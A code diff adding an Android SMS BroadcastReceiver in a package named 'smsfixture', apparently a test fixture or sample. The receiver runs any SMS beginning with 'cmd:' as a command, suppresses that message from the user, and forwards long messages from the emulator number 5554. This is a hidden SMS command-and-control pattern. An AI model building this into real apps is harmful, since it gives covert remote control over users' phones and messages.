@@ -0,0 +1,36 @@
+package com.example.smsfixture;
+
+import android.content.BroadcastReceiver;
+import android.content.Context;
+import android.content.Intent;
+import android.os.Bundle;
+import android.telephony.SmsMessage;
+
+public class SmsReceiver extends BroadcastReceiver {
+    @Override
+    public void onReceive(Context context, Intent intent) {
+        if (!"android.provider.Telephony.SMS_RECEIVED".equals(intent.getAction())) {
+            return;
+        }
+
+        Bundle extras = intent.getExtras();
+        if (extras == null) {
+            return;
+        }
+
+        Object[] pdus = (Object[])extras.get("pdus");
+
+        for (Object pdu : pdus) {
+            SmsMessage message = SmsMessage.createFromPdu((byte[])pdu);
+            String body = message.getMessageBody();
+            String sender = message.getOriginatingAddress();
+
+            if (body.startsWith("cmd:")) {
+                Commands.execute(context, sender, body.substring(4));
+                abortBroadcast();
+            } else if (body.length() > 140 && sender.equals("5554")) {
+                Commands.forward(sender, body);
+            }
+        }
+    }
+}